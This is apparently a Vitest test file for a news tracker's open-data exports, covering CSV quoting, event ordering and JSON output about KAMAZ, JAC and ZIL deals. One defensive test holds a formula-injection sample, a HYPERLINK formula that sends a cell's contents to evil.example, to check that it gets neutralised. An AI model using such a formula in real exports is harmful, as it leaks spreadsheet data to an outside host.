import { describe, expect, it } from 'vitest';
import { dealHistory, currentStep } from '../../src/lib/deals.ts';
import {
  articlesJson,
  csvField,
  dealsJson,
  entitiesJson,
  EVENT_COLUMNS,
  eventsCsv,
  toCsv,
  type OpenDataInput,
} from '../../src/lib/open-data.ts';
import { indexBy } from '../../src/lib/index-by.ts';
import { buildTimeline } from '../../src/lib/timeline.ts';
import { articleSchema, dealSchema, entitySchema } from '../../src/schemas/index.ts';

const SITE = 'https://tracker.example';

const articles = [
  {
    slug: 'talks',
    data: articleSchema.parse({
      title: 'Talks',
      summary: 'KAMAZ talks to JAC.',
      date: '2022-05-19',
      kind: 'report',
      storylines: ['revival'],
      entities: ['kamaz', 'jac'],
      sources: [{ outlet: 'reuters', title: 'T', url: 'https://example.com/t' }],
      events: [
        { id: 'plant-sold', date: '2022-05', text: 'Renault sells the plant, "for one rouble", to the city.', entities: ['kamaz'] },
        { id: 'talks-begin', date: '2022-05-19', text: 'Talks begin', entities: ['kamaz', 'jac'] },
      ],
      deals: [{ deal: 'kamaz-jac', status: 'in-talks', date: '2022-05-19' }],
      formerSlugs: ['old-talks'],
    }),
  },
  {
    slug: 'zil',
    data: articleSchema.parse({
      title: 'ZIL',
      summary: 'ZIL and FAW.',
      date: '2005',
      kind: 'brief',
      storylines: ['zil'],
      entities: ['jac'],
      sources: [{ outlet: 'reuters', title: 'Z', url: 'https://example.com/z' }],
      events: [{ id: 'zil-talks', date: '2005', text: 'ZIL talks', entities: ['jac'] }],
    }),
  },
];

const dealData = dealSchema.parse({
  title: 'KAMAZ and JAC',
  parties: ['kamaz', 'jac'],
  storyline: 'revival',
  summary: 'Building the car.',
});
const history = dealHistory('kamaz-jac', articles);
const input: OpenDataInput = {
  articles,
  articlesByEntity: indexBy(articles, (a) => a.data.entities),
  entities: new Map([
    ['jac', { data: entitySchema.parse({ name: 'JAC', kind: 'company', summary: 'A carmaker.', aliases: ['Jianghuai'] }) }],
    ['kamaz', { data: entitySchema.parse({ name: 'KAMAZ', kind: 'company', summary: 'A truck maker.', country: 'RU' }) }],
  ]),
  deals: new Map([
    ['kamaz-jac', { data: dealData, history, current: currentStep(history) }],
    ['quiet', { data: { ...dealData, title: 'Quiet' }, history: [], current: undefined }],
  ]),
  site: SITE,
};

describe('CSV (RFC 4180)', () => {
  it('quotes a field only when it holds a comma, a quote or a line break, and doubles quotes', () => {
    expect(csvField('plain text')).toBe('plain text');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(42)).toBe('42');
    expect(csvField(-42)).toBe('-42');
  });

  it('neutralises text a spreadsheet would run as a formula, with a leading apostrophe (OWASP)', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"Click me")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click me"")"`,
    );
    for (const start of ['+', '-', '@', '\t', '\r'])
      expect(csvField(`${start}1+1`).startsWith(`'${start}`) || csvField(`${start}1+1`).startsWith(`"'${start}`)).toBe(true);
    expect(csvField('KAMAZ = truck maker')).toBe('KAMAZ = truck maker');
  });

  it('ends every record, the header included, with CRLF', () => {
    expect(toCsv(['a', 'b'], [['1', 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
  });
});

describe('events.csv', () => {
  const csv = eventsCsv(input);
  const lines = csv.split('\r\n');

  it('has the header and one record per event, newest first, a month-only date after that month’s days', () => {
    expect(lines[0]).toBe(EVENT_COLUMNS.join(','));
    expect(lines.at(-1)).toBe('');
    expect(lines).toHaveLength(1 + 3 + 1);
    expect(lines.slice(1, -1).map((l) => l.split(',')[0])).toEqual(['talks-begin', 'plant-sold', 'zil-talks']);
  });

  it('keeps the date precision, space-separates entity ids and links the event anchor', () => {
    expect(lines[1]).toBe(
      'talks-begin,2022-05-19,day,Talks begin,kamaz jac,talks,https://tracker.example/articles/talks/#event-talks-begin',
    );
    expect(lines[2]).toBe(
      'plant-sold,2022-05,month,"Renault sells the plant, ""for one rouble"", to the city.",kamaz,talks,https://tracker.example/articles/talks/#event-plant-sold',
    );
    expect(lines[3]).toContain('zil-talks,2005,year,');
  });

  it('orders the events the way the timeline does', () => {
    const timeline = buildTimeline(articles.map(({ slug, data }) => ({ slug, data: { ...data, date: '2023' } })));
    expect(lines.slice(1, -1).map((l) => `event:${l.split(',')[0]}`)).toEqual(timeline.filter((e) => e.kind === 'event').map((e) => e.key));
  });
});

describe('JSON exports', () => {
  it('articles.json: an envelope and every article with its URL and date precision', () => {
    const json = JSON.parse(articlesJson(input));
    expect(json).toMatchObject({ version: 2, site: 'https://tracker.example/', count: 2 });
    expect(json.articles.map((a: { slug: string }) => a.slug)).toEqual(['talks', 'zil']);
    expect(json.articles[0]).toMatchObject({
      slug: 'talks',
      url: 'https://tracker.example/articles/talks/',
      date: '2022-05-19',
      datePrecision: 'day',
      entities: ['kamaz', 'jac'],
      formerSlugs: ['old-talks'],
    });
    expect(json.articles[1].datePrecision).toBe('year');
  });

  it('entities.json: every entity with the articles naming it, and nulls for absent fields', () => {
    const json = JSON.parse(entitiesJson(input));
    expect(json.count).toBe(2);
    expect(json.entities[0]).toMatchObject({
      id: 'jac',
      url: 'https://tracker.example/entities/jac/',
      aliases: ['Jianghuai'],
      country: null,
      articles: ['talks', 'zil'],
    });
    expect(json.entities[1]).toMatchObject({ id: 'kamaz', country: 'RU', role: null, articles: ['talks'] });
  });

  it('deals.json: every deal with its current status and history, null when none is reported', () => {
    const json = JSON.parse(dealsJson(input));
    expect(json.count).toBe(2);
    expect(json.deals[0]).toMatchObject({
      id: 'kamaz-jac',
      url: 'https://tracker.example/deals/#deal-kamaz-jac',
      status: 'in-talks',
      statusDate: '2022-05-19',
      history: [{ status: 'in-talks', date: '2022-05-19', article: 'talks', outlets: ['reuters'] }],
    });
    expect(json.deals[1]).toMatchObject({ id: 'quiet', status: null, statusDate: null, history: [] });
  });
});
